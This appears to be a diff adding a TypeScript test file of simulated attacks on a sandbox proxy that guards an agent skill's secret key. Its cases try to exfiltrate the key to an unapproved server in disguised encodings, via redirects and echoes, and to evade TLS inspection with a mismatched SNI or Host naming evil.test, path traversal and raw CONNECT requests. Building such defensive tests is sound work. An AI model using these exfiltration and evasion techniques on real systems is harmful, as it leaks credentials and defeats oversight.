@@ -1,0 +1,131 @@
+/**
+ * Attacks on the key that the skill may use and not have, and on what TLS hides.
+ *
+ * @module
+ */
+import { fetches, group, page, type NetworkAttack, type Ports } from './attack.ts';
+
+/** A server that is granted, and that the key is not for. */
+const stranger = (path: string, more: object = {}): NetworkAttack['params'] =>
+  fetches(({ web }) => `http://127.0.0.2:${web}${path}`, more);
+const BEARER = { headers: { Authorization: 'Bearer KEY' } };
+
+const sent = group(
+  { codes: ['capability_denied'], capability: 'secret' },
+  {
+    key_in_header: ['Sends its key to a server that it is not for.', stranger('/', BEARER)],
+    key_in_name: ['Sends it as a cookie.', stranger('/', { headers: { Cookie: 'a=KEY; b=c' } })],
+    key_in_query: ['Sends it in the query.', stranger('/?k=KEY')],
+    key_in_path: ['Sends it in the path.', stranger('/a/KEY/b')],
+    key_in_body: ['Sends it in the body.', stranger('/', { method: 'POST', body: 'note=KEY' })],
+    key_in_base64: ['Sends it in base64, behind other text.', stranger('/', { ...BEARER, spell: 'base64' })],
+    key_in_percents: ['Sends it with percent signs.', stranger('/?k=KEY', { spell: 'percent' })],
+    key_in_hex: ['Sends it in hexadecimal.', stranger('/', { method: 'POST', body: 'KEY', spell: 'hex' })],
+    key_in_json: [
+      'Sends it in escapes of JSON.',
+      stranger('/', {
+        method: 'POST',
+        body: '{"a":"KEY"}',
+        spell: 'json',
+        headers: { 'Content-Type': 'application/json' },
+      }),
+    ],
+    key_in_chunks: [
+      'Sends it in two chunks.',
+      ({ web }) => ({
+        op: 'raw',
+        address: ['127.0.0.2', web],
+        pieces: [
+          `POST / HTTP/1.1\r\nHost: 127.0.0.2:${web}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n`,
+          '10\r\nKEY1\r\n',
+          '10\r\nKEY2\r\n',
+          '0\r\n\r\n',
+        ],
+      }),
+      // A library would raise the answer of the proxy; these bytes are read by the skill itself.
+      { codes: ['ok', 'capability_denied'] },
+    ],
+    key_halves: [
+      'Sends it in two fields, which is worth nothing.',
+      stranger('/?a=KEY1&b=KEY2'),
+      { codes: ['ok'] },
+    ],
+    key_by_redirect: [
+      'Has its own server redirect it to a server that no rule covers.',
+      page('/open/redirect', BEARER),
+      { capability: 'network' },
+    ],
+  },
+);
+
+const returned = group(
+  { codes: ['ok'] },
+  {
+    key_echoed: [
+      'Has the server send its key back, in many spellings and small pieces.',
+      page('/open/echo', BEARER),
+    ],
+    key_echoed_by_basic: [
+      'The same for a key in base64.',
+      page('/open/echo', { headers: { Authorization: 'Basic KEY' }, spell: 'base64' }),
+      { control: { none: 'The key comes back in base64 of base64.' } },
+    ],
+    key_around: ['Looks for the value of its key around itself.', () => ({ op: 'look' })],
+  },
+);
+
+const secure = (path: string, more: object = {}): NetworkAttack['params'] =>
+  fetches(({ tls }) => `https://127.0.0.1:${tls}${path}`, more);
+const HIDDEN = { none: 'TLS hides it from a proxy that does not look; without TLS it is shown above.' };
+
+const hidden = group(
+  { codes: ['capability_denied'], grant: 'seen', control: HIDDEN },
+  {
+    tls_other_method: [
+      'Uses another method inside of TLS.',
+      secure('/open/harmless', { method: 'POST', body: 'x' }),
+    ],
+    tls_other_path: ['Goes to another path inside of TLS.', secure('/closed/secret')],
+    tls_coded_dots: ['Leaves the path by encoded dots inside of TLS.', secure('/open/%2e%2e/closed/secret')],
+    tls_other_host: [
+      'Names another host inside of TLS.',
+      secure('/open/harmless', { headers: { Host: 'evil.test' } }),
+      { modes: ['subprocess'] },
+    ],
+  },
+);
+
+const names = group(
+  { codes: ['skill_error', 'capability_denied'], grant: 'unread', modes: ['subprocess'], control: 'proxy' },
+  {
+    tls_other_name: ['Names another server in TLS than in its tunnel.', named('evil.test')],
+    tls_other_name_seen: [
+      'The same where TLS is looked into.',
+      named('evil.test'),
+      { grant: 'seen', codes: ['ok'] },
+    ],
+    plain_for_tls: [
+      'Speaks without TLS where the rule wants TLS.',
+      ({ web, tls }) => ({
+        op: 'proxy',
+        pieces: [
+          `CONNECT 127.0.0.1:${tls} HTTP/1.1\r\nHost: 127.0.0.1:${web}\r\n\r\n`,
+          'GET /open/harmless HTTP/1.1\r\nHost: a\r\n\r\n',
+        ],
+      }),
+      { codes: ['ok'] },
+    ],
+  },
+);
+
+function named(name: string): (ports: Ports) => Record<string, unknown> {
+  return ({ tls, web }) => ({
+    op: 'tls',
+    address: ['127.0.0.1', tls],
+    name,
+    granted: `127.0.0.1:${web}`,
+    request: 'GET /open/harmless HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n',
+  });
+}
+
+export const SECRET_ATTACKS: readonly NetworkAttack[] = [...sent, ...returned, ...hidden, ...names];
